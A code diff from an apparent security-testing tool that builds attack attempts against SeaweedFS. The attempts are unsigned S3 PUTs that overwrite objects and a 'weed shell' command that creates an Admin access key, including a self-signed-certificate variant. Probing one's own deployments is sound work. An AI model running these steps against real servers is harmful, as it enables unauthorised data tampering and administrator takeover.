@@ -111,14 +111,14 @@ def _signed(tried: str, pair: str, arguments: list[str]) -> Attempt:
     return Attempt(target=f"{_NAME} s3.port", tried=tried, action=action)
 
 
-def writes(ports: list[Port], s3_url: str, program: Path, home: Path) -> list[Attempt]:
+def writes(ports: list[Port], s3_url: str, folder: Path, seconds: float) -> list[Attempt]:
     """Overwrite a review, take a place for a new file, and make an administrator's key by SeaweedFS's own shell.
 
     Args:
         ports: of SeaweedFS.
         s3_url: of the S3 port.
-        program: `weed`, where anybody may run it.
-        home: a folder that anybody may write to.
+        folder: that anybody may write to, with the program `weed` in it.
+        seconds: after which the shell is ended.
     """
     at = {_flag(p): p for p in ports}
     made: list[Attempt] = []
@@ -133,7 +133,7 @@ def writes(ports: list[Port], s3_url: str, program: Path, home: Path) -> list[At
     place = f"{s3_url}/{BUCKET}/{KEY}"
     made.append(http(f"{_NAME} s3.port", place, "PUT", "overwritten", note="unsigned"))
     made.append(http(f"{_NAME} s3.port", f"{s3_url}/attack", "PUT", "", note="unsigned"))
-    made += _shell(at["master.port"], at["master.port.grpc"], program, home)
+    made += _shell(at["master.port"], at["master.port.grpc"], folder, seconds)
     made.append(
         _signed("GET / with the key made in the shell", f"{_KEY}:{_SECRET}", [f"{s3_url}/"])
     )
@@ -159,18 +159,18 @@ exec "$@"
 """
 
 
-def _shell(master: Port, grpc: Port, program: Path, home: Path) -> list[Attempt]:
+def _shell(master: Port, grpc: Port, folder: Path, seconds: float) -> list[Attempt]:
     """SeaweedFS's shell, first as it comes, then with a certificate that the attacker signs himself."""
     make = f"s3.configure -user=attacker -access_key={_KEY} -secret_key={_SECRET} -actions=Admin -apply"
     said = f"{make}\nfs.ls /buckets\nexit\n"
-    shell = [str(program), "shell", f"-master={master.host}:{master.number}.{grpc.number}"]
-    plain = {"do": "program", "command": shell, "stdin": said, "seconds": 15}
+    shell = [str(folder / "weed"), "shell", f"-master={master.host}:{master.number}.{grpc.number}"]
+    plain = {"do": "program", "command": shell, "stdin": said, "seconds": seconds}
     own = plain | {"command": ["/bin/sh", "-c", _OWN_CERTIFICATE, "sh", *shell]}
     return [
         Attempt(
             target=f"{_NAME} master.port.grpc",
             tried=f"weed shell: make a key{note}",
-            action=action | {"environment": {"HOME": str(home / name)}, "folder": str(home)},
+            action=action | {"environment": {"HOME": str(folder / name)}, "folder": str(folder)},
         )
         for note, name, action in ((", own certificate", "own", own), ("", "plain", plain))
     ]
